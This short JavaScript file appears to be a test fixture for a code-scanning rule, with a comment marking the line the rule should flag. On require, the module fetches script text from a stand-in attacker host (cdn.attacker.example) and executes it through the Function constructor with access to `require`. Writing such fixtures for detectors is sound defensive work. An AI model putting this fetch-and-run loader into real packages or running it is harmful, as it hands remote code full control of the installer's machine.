// Runs on require: the code is the Function constructor's last argument, handed `require` as a parameter.
module.exports = {};
fetch('https://cdn.attacker.example/m.js')
  .then((r) => r.text())
  // ruleid: code/code-execution
  .then((body) => new Function('require', body)(require));
